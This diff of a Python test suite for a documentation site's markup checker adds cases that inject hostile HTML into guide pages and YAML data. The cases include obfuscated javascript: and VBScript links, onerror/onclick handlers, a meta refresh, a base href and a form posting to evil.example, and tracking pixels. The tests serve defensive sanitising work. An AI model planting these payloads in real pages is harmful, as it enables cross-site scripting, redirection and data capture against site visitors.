@@ -76,8 +76,32 @@ CASES = [
     ("H002", "guides/guide.md", "with questions.", 'with <img src="x.png" onerror="alert(1)"> questions.', 17),
     ("H003", "guides/guide.md", "[device classes guide](other.md)", "[device classes guide](javascript:alert(1))", 17),
     ("H003", "guides/guide.md", "[device classes guide](other.md)", "[device classes guide](JaVa&#115;cript:alert(1))", 17),
-    ("H003", "guides/guide.md", "with questions.", "with questions.\n\n[x]: data:text/html;base64,PHNjcmlwdD4=", 19),
-    ("H004", "guides/guide.md", "with questions.", 'with questions.\n\n<iframe src="https://tracker.example"></iframe>', 19),
+    # a reference is blamed on its definition, where the URL is written
+    ("H003", "guides/guide.md", "with questions.", "with [questions][x].\n\n[x]: data:text/html;base64,PHNjcmlwdD4=", 19),
+    ("H001", "guides/guide.md", "with questions.", 'with questions.\n\n<iframe src="https://tracker.example"></iframe>', 19),
+    # the allow-list: every route of issue 15, on the rendered HTML, reported on its own line
+    ("H002", "guides/guide.md", "[device classes guide](other.md)", '[device classes guide](other.md){ onclick="alert(1)" }', 17),
+    ("H002", "guides/guide.md", "with questions.", 'with questions.\n\n![plan](plan.png){ onerror="alert(1)" }', 19),
+    ("H001", "guides/guide.md", "with questions.", 'with questions.\n\n<META HTTP-EQUIV="refresh" content="0; url=https://evil.example">', 19),
+    ("H001", "guides/guide.md", "with questions.", 'with questions.\n\n<form action="https://evil.example/post"><input name="q"></form>', 19),
+    ("H004", "guides/guide.md", "with questions.", 'with questions.\n\n<img src="https://tracker.example/pixel.gif" alt="">', 19),
+    ("H004", "guides/guide.md", "with questions.", "with questions.\n\n![plan](//cdn.example/plan.png)", 19),
+    ("H004", "guides/guide.md", "with questions.", 'with questions.\n\n<picture><source srcset="a.webp 1x, https://cdn.example/b.webp 2x"><img src="a.png" alt=""></picture>', 19),
+    ("H004", "guides/guide.md", "with questions.", 'with questions.\n\n<video src="a.mp4" poster="https://cdn.example/p.jpg"></video>', 19),
+    ("H004", "guides/guide.md", "with questions.", 'with questions.\n\n<audio src="a.mp3"><track src="https://cdn.example/a.vtt"></audio>', 19),
+    ("H001", "guides/guide.md", "with questions.", 'with questions.\n\n<link rel="stylesheet" href="https://cdn.example/a.css">', 19),
+    ("H001", "guides/guide.md", "with questions.", "with questions.\n\n<style>p { background: url(https://cdn.example/x.png) }</style>", 19),
+    ("H002", "guides/guide.md", "with questions.", 'with <span style="background: U\\72L(https://cdn.example/x.png)">questions</span>.', 17),
+    ("H003", "guides/guide.md", "[device classes guide](other.md)", '<a href="java&#x09;script:alert(1)">device classes guide</a>', 17),
+    ("H003", "guides/guide.md", "[device classes guide](other.md)", '<a href=" &#1;VBScript:msgbox(1)">device classes guide</a>', 17),
+    ("H003", "guides/guide.md", "with questions.", "with questions.\n\n![plan](data:image/png;base64,iVBORw0KGgo=)", 19),
+    ("H001", "guides/guide.md", "with questions.", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 17),
+    ("H001", "guides/guide.md", "with questions.", "with questions.\n\n<math><maction actiontype=\"statusline\">x</maction></math>", 19),
+    ("H001", "guides/guide.md", "with questions.", 'with questions.\n\n<object data="x.swf"></object>', 19),
+    ("H001", "guides/guide.md", "with questions.", 'with questions.\n\n<embed src="x.swf">', 19),
+    ("H001", "guides/guide.md", "with questions.", 'with questions.\n\n<frameset><frame src="https://evil.example"></frameset>', 19),
+    ("H001", "guides/guide.md", "with questions.", 'with questions.\n\n<base href="https://evil.example/">', 19),
+    ("H002", "guides/guide.md", "with questions.", 'with questions.\n\n<div data-md-component="search">x</div>', 19),
     ("N001", "guides/guide.fr.md", "title: Les organismes notifiés en pratique", "title: TODO Titre du guide", 2),
     ("N001", "guides/guide.ja.md", "監査の開始までに", "TODO 監査の開始までに", 22),
 ]
@@ -90,9 +114,34 @@ def test_rule_trips_on_its_defect(project, code, rel, old, new, line):
     assert (code, line) in codes(found, rel), [f.as_text() for f in found if f.code != "P001"]
 
 
+def test_allowed_html_is_clean(project):
+    """The clean side of the allow-list: what contributors legitimately write passes."""
+    edit(project, "guides/guide.md", "with questions.", "with questions.\n\n"
+         '[EUR-Lex](https://eur-lex.europa.eu/){ target="_blank" rel="noopener" } and <a href="mailto:info@example.eu">mail</a>.\n\n'
+         '![Plan](../assets/kakehashi-mark.svg){ width="40" height="40" } <abbr title="Medical Device Regulation">MDR</abbr> '
+         '<ruby>漢<rt>かん</rt></ruby> <kbd>Ctrl</kbd> <span style="color: #123456; font-weight: bold">x</span>\n\n'
+         "| Left | Right |\n|:--|--:|\n| a | b |\n\n"
+         "```html\n<script>alert(1)</script>\n<iframe src=\"https://x\"></iframe>\n```\n\n"
+         "Inline `<script>` code.\n\n<details><summary>More</summary><p>Text</p></details>\n")
+    found = [f.as_text() for f in check(project) if f.code.startswith("H")]
+    assert found == []
+
+
+def test_markup_in_data_files_is_reported_on_its_line(project):
+    events = project / "data" / "events"
+    events.mkdir(parents=True, exist_ok=True)
+    (events / "probe.yaml").write_text(
+        "id: probe\nname:\n  en: Fair\n  fr: <img src=https://tracker.example/p.gif onerror=alert(1)>\n"
+        "summary:\n  en: |\n    First line.\n    Second &#106;avascript: line.\n", encoding="utf-8")
+    (project / "data" / "termbase.yaml").write_text(
+        (project / "data" / "termbase.yaml").read_text(encoding="utf-8") + "\n", encoding="utf-8")
+    found = {(f.code, f.path, f.line) for f in check(project) if f.code == "H005"}
+    assert found == {("H005", "data/events/probe.yaml", 4), ("H005", "data/events/probe.yaml", 8)}
+
+
 def test_every_rule_has_a_case_and_documentation():
     page_rules = {code for code, rule in REGISTRY.items() if rule.check is not None and not code.startswith("C")}
-    covered = {case[0] for case in CASES} | {"P001", "P002", "P003", "P005", "N002", "D000"}  # N002: test_scaffold.py; D000: test_cli.py
+    covered = {case[0] for case in CASES} | {"P001", "P002", "P003", "P005", "N002", "D000", "H005"}  # N002: test_scaffold.py; D000: test_cli.py
     assert page_rules <= covered
     for rule in REGISTRY.values():
         assert rule.summary and len(rule.explanation) > 40, rule.code
@@ -283,3 +332,12 @@ def test_a_japanese_term_wrapped_over_two_lines_is_found(project):
     assert "T001" not in {f.code for f in check(project)}  # the wrapped term still counts
     edit(project, "guides/guide.ja.md", "ノーティファイド\nボディが評価します", "認定\n機関が評価します")
     assert ("T001", 16) in codes(check(project), "guide.ja.md")
+
+
+def test_allowlist_survives_a_markdown_extension_that_is_missing(project):
+    """A misconfigured extension in mkdocs.yml is the build's to report: the check still renders the
+    page with the others (attribute lists included) and reports what they produce, without a traceback."""
+    config = project / "mkdocs.yml"
+    config.write_text(config.read_text(encoding="utf-8").replace("  - attr_list\n", "  - attr_list\n  - no_such_extension\n"), encoding="utf-8")
+    edit(project, "guides/guide.md", "[device classes guide](other.md)", '[device classes guide](other.md){ onclick="alert(1)" }')
+    assert ("H002", 17) in codes(check(project), "guides/guide.md")
